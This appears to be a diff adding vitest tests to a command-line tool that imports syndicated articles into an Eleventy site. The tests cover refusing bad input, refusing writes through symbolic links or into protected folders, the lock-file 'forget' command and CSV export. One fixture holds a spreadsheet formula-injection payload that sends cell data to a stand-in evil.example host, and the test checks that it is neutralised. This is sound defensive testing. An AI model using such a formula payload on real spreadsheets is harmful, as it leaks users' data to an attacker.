@@ -1,7 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { spawnSync } from "node:child_process";
 import { createHash } from "node:crypto";
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import matter from "gray-matter";
@@ -252,5 +252,194 @@ describe("the command line on a site with surprises", () => {
     const rows = JSON.parse(site.run(["report", "--format", "json"]).stdout);
     expect(rows.map((r: { file: string; status: string }) => `${r.file} ${r.status}`)).toEqual(["reprints/a.md live", "reprints/b.md invalid"]);
     expect(site.run(["report", "--expiring", "P-30D"]).status).toBe(2);
+  });
+});
+
+describe("import refuses input and places it must not write", () => {
+  const TEXT = "This story was originally published by Example Wire.\nText.\n";
+  const FLAGS = ["--url", "https://w.example/c", "--licence", "permission"];
+  /** A site with its includes, data and output folders, and a folder outside it. */
+  const site = () => {
+    const dir = mkdtempSync(join(tmpdir(), "syndication-import-out-"));
+    for (const folder of ["site/reprints", "site/_includes", "site/_data", "_site", "elsewhere"]) mkdirSync(join(dir, folder), { recursive: true });
+    writeFileSync(join(dir, "syndication.config.json"), '{ "input": "site", "lockFile": false }');
+    writeFileSync(join(dir, "text.txt"), TEXT);
+    return { dir, run: (args: string[]) => cli(args, dir) };
+  };
+
+  it("refuses a text that is empty, only white space, a credit line alone or not text, writing nothing", () => {
+    const s = site();
+    const cases: Array<[string, Buffer | string, string]> = [
+      ["empty.txt", "", "empty.txt: not imported: it is empty: there is no article to import."],
+      ["blank.txt", "  \n\n\t\n", "blank.txt: not imported: it is only white space: there is no article to import."],
+      ["credit.txt", "This story was originally published by Example Wire.\n\n", "credit.txt: not imported: it has a credit line and no article after it."],
+      ["image.txt", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0xff]), "image.txt: not imported: it is not UTF-8 text (a binary file, or another encoding): save the article as UTF-8 text."],
+      ["nul.txt", "Text\u0000with a NUL.\n", "nul.txt: not imported: it is not plain text: it holds U+0000, a control character no article has (a binary file?)."],
+    ];
+    for (const [name, content, message] of cases) {
+      writeFileSync(join(s.dir, name), content);
+      const run = s.run(["import", name, ...FLAGS, "--out", `site/reprints/${name}.md`]);
+      expect(run.stderr.trim()).toBe(message);
+      expect(run.status).toBe(1);
+    }
+    expect(readdirSync(join(s.dir, "site", "reprints"))).toEqual([]);
+  });
+
+  it("refuses --out in the includes, data or output folder (exit 2)", () => {
+    const s = site();
+    for (const [out, words] of [
+      ["site/_includes/x.md", "is in the includes folder (site/_includes), whose files the build does not make into pages"],
+      ["site/_data/x.md", "is in the data folder (site/_data), whose files the build does not make into pages"],
+    ]) {
+      const run = s.run(["import", "text.txt", ...FLAGS, "--out", out!]);
+      expect(run.stderr.trim()).toBe(`eleventy-syndication: --out ${out} ${words}: give a file among the site's pages`);
+      expect(run.status).toBe(2);
+    }
+    // The output folder inside the input folder, as some sites have it.
+    writeFileSync(join(s.dir, "syndication.config.json"), '{ "input": "site", "output": "site/_site", "lockFile": false }');
+    const output = s.run(["import", "text.txt", ...FLAGS, "--out", "site/_site/x.md"]);
+    expect(output.stderr.trim()).toBe("eleventy-syndication: --out site/_site/x.md is in the output folder (site/_site), which the build overwrites: give a file among the site's pages");
+    expect(output.status).toBe(2);
+    expect(existsSync(join(s.dir, "site", "_includes", "x.md"))).toBe(false);
+  });
+
+  it("refuses --out that leads out of the site through a link, or is a link, even with --force", () => {
+    const s = site();
+    // A folder of the site that is a link to a folder outside it.
+    symlinkSync(join(s.dir, "elsewhere"), join(s.dir, "site", "reprints", "linked"));
+    const through = s.run(["import", "text.txt", ...FLAGS, "--out", "site/reprints/linked/x.md"]);
+    expect(through.stderr.trim()).toBe(
+      `eleventy-syndication: --out site/reprints/linked/x.md must be a .md file inside the site's input folder (site), where the build will find it (it leads to ${join(realpathSync(s.dir), "elsewhere", "x.md")})`,
+    );
+    expect(through.status).toBe(2);
+    // A file of the site that is a link to a file outside it: never written through.
+    writeFileSync(join(s.dir, "elsewhere", "config.js"), "the site's config");
+    symlinkSync(join(s.dir, "elsewhere", "config.js"), join(s.dir, "site", "reprints", "x.md"));
+    const forced = s.run(["import", "text.txt", ...FLAGS, "--out", "site/reprints/x.md", "--force"]);
+    expect(forced.status).toBe(2);
+    // Resolved, the link leads out of the site; a link inside it is refused as a link.
+    expect(forced.stderr).toContain("must be a .md file inside the site's input folder");
+    symlinkSync("other.md", join(s.dir, "site", "reprints", "inner.md"));
+    writeFileSync(join(s.dir, "site", "reprints", "other.md"), "mine");
+    const inner = s.run(["import", "text.txt", ...FLAGS, "--out", "site/reprints/inner.md", "--force"]);
+    expect(inner.stderr.trim()).toBe("eleventy-syndication: --out site/reprints/inner.md is a symbolic link; import writes only to a real file, never through a link");
+    expect(inner.status).toBe(2);
+    expect(readFileSync(join(s.dir, "elsewhere", "config.js"), "utf8")).toBe("the site's config");
+    expect(readFileSync(join(s.dir, "site", "reprints", "other.md"), "utf8")).toBe("mine");
+    expect(readdirSync(join(s.dir, "elsewhere"))).toEqual(["config.js"]);
+  });
+
+  it("writes into an input folder that is itself a link, and replaces a file only with --force", () => {
+    const s = site();
+    // The input folder is a link to the real one (a checkout under a linked path is common).
+    symlinkSync(join(s.dir, "site"), join(s.dir, "linked"));
+    writeFileSync(join(s.dir, "syndication.config.json"), '{ "input": "linked", "lockFile": false }');
+    const run = s.run(["import", "text.txt", ...FLAGS, "--out", "linked/reprints/c.md"]);
+    expect(run.stderr).toBe("");
+    expect(run.status).toBe(0);
+    const first = readFileSync(join(s.dir, "site", "reprints", "c.md"), "utf8");
+    expect(first).toContain("https://w.example/c");
+    writeFileSync(join(s.dir, "other.txt"), "This story was originally published by Example Wire.\nOther text.\n");
+    const again = s.run(["import", "other.txt", ...FLAGS, "--out", "linked/reprints/c.md"]);
+    expect(again.status).toBe(1);
+    expect(readFileSync(join(s.dir, "site", "reprints", "c.md"), "utf8")).toBe(first);
+    const forced = s.run(["import", "other.txt", ...FLAGS, "--out", "linked/reprints/c.md", "--force"]);
+    expect(forced.stderr).toBe("");
+    expect(readFileSync(join(s.dir, "site", "reprints", "c.md"), "utf8")).toContain("Other text.");
+    expect(readdirSync(join(s.dir, "site", "reprints"))).toEqual(["c.md"]);
+  });
+});
+
+describe("report as CSV", () => {
+  it("neutralises cells a spreadsheet would run as formulas", () => {
+    const dir = mkdtempSync(join(tmpdir(), "syndication-csv-"));
+    mkdirSync(join(dir, "reprints"));
+    writeFileSync(join(dir, "syndication.config.json"), '{ "lockFile": false }');
+    writeFileSync(
+      join(dir, "reprints", "-x.md"),
+      '---\ntitle: T\nsyndication:\n  source: \'=HYPERLINK("https://evil.example/?"&A1,"Click")\'\n  originalUrl: https://w.example/a\n  licence: { name: "@SUM(1+1)" }\n  published: 2024-01-02\n---\nText.\n',
+    );
+    const run = cli(["report", "--format", "csv"], dir);
+    expect(run.status).toBe(0);
+    expect(run.stdout).toBe(
+      "file,source,licence,published,status,expires,address\r\n" +
+        `reprints/-x.md,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")","'@SUM(1+1)",2024-01-02,live,,/reprints/2024/01/-x/\r\n`,
+    );
+  });
+});
+
+describe("the exit codes", () => {
+  it("report: 1 when a data file cannot be read (nothing is listed), as the README says", () => {
+    const dir = mkdtempSync(join(tmpdir(), "syndication-report-exit-"));
+    mkdirSync(join(dir, "reprints"));
+    writeFileSync(join(dir, "syndication.config.json"), '{ "lockFile": false }');
+    writeFileSync(join(dir, "reprints", "reprints.11tydata.json"), "{ bad");
+    writeFileSync(join(dir, "reprints", "a.md"), "---\ntitle: A\n---\nText.\n");
+    const run = cli(["report"], dir);
+    expect(run.status).toBe(1);
+    expect(run.stdout).toBe("");
+    expect(run.stderr).toMatch(/^eleventy-syndication: reprints\/reprints\.11tydata\.json is not valid JSON: /);
+  });
+});
+
+describe("forget", () => {
+  const reprint = (name: string) => `---\ntitle: ${name}\nsyndication:\n  source: Example Wire\n  originalUrl: https://w.example/${name}\n  licence: permission\n---\nText.\n`;
+  /** A site whose lock records two reprints, a and b. */
+  const site = () => {
+    const dir = mkdtempSync(join(tmpdir(), "syndication-forget-"));
+    mkdirSync(join(dir, "reprints"));
+    writeFileSync(join(dir, "syndication.config.json"), "{}");
+    writeFileSync(join(dir, "reprints", "a.md"), reprint("a"));
+    writeFileSync(join(dir, "reprints", "b.md"), reprint("b"));
+    const lock = {
+      version: 1,
+      reprints: {
+        "https://w.example/a": { url: "/reprints/a/", file: "reprints/a.md" },
+        "https://w.example/b": { url: "/reprints/b/", file: "reprints/b.md", previousUrls: ["/old-b/"] },
+      },
+    };
+    writeFileSync(join(dir, "syndication.lock.json"), `${JSON.stringify(lock, null, 2)}\n`);
+    return { dir, run: (args: string[]) => cli(args, dir), lock: () => readFileSync(join(dir, "syndication.lock.json"), "utf8") };
+  };
+
+  it("drops a deleted reprint that was never deployed, as the error its deletion causes says", () => {
+    const s = site();
+    rmSync(join(s.dir, "reprints", "b.md"));
+    const check = s.run(["check"]);
+    expect(check.status).toBe(1);
+    expect(check.stdout).toContain("drop it from the lock with npx eleventy-syndication forget /reprints/b/");
+    const run = s.run(["forget", "/reprints/b/"]);
+    expect(run.stderr).toBe("");
+    expect(run.status).toBe(0);
+    expect(run.stdout).toBe("syndication.lock.json: forgot /reprints/b/ (reprints/b.md, a reprint of https://w.example/b), and its redirects from /old-b/.\n");
+    expect(JSON.parse(s.lock()).reprints).toEqual({ "https://w.example/a": { url: "/reprints/a/", file: "reprints/a.md" } });
+    expect(s.run(["check"]).status).toBe(0);
+    expect(readdirSync(s.dir).sort()).toEqual(["reprints", "syndication.config.json", "syndication.lock.json"]);
+  });
+
+  it("says when the reprint is still there, and drops nothing when a name matches no entry", () => {
+    const s = site();
+    const kept = s.run(["forget", "reprints/a.md"]);
+    expect(kept.stdout).toContain("reprints/a.md is still there: the next build records it again, at the address it has then.");
+    const before = s.lock();
+    const typo = s.run(["forget", "https://w.example/b", "/reprints/nope/"]);
+    expect(typo.stderr.trim()).toBe('eleventy-syndication: no entry of syndication.lock.json has the address, original URL or file "/reprints/nope/"; nothing was dropped.');
+    expect(typo.status).toBe(1);
+    expect(s.lock()).toBe(before);
+  });
+
+  it("refuses a lock it cannot use, with the lock's problems or the file's cause (exit 1), and no lock at all (exit 2)", () => {
+    const s = site();
+    writeFileSync(join(s.dir, "syndication.lock.json"), '{ "version": 1, "reprints": { "https://w.example/a": { "url": "../x", "file": "a.md" } } }');
+    const bad = s.run(["forget", "/reprints/a/"]);
+    expect(bad.status).toBe(1);
+    expect(bad.stderr).toContain('syndication.lock.json:1  url  "../x" does not start with /');
+    rmSync(join(s.dir, "syndication.lock.json"));
+    mkdirSync(join(s.dir, "syndication.lock.json"));
+    const folder = s.run(["forget", "/reprints/a/"]);
+    expect(folder.stderr.trim()).toBe("eleventy-syndication: syndication.lock.json cannot be read: it is a folder, not a file (EISDIR)");
+    expect(folder.status).toBe(1);
+    writeFileSync(join(s.dir, "syndication.config.json"), '{ "lockFile": false }');
+    expect(s.run(["forget", "/reprints/a/"]).status).toBe(2);
   });
 });
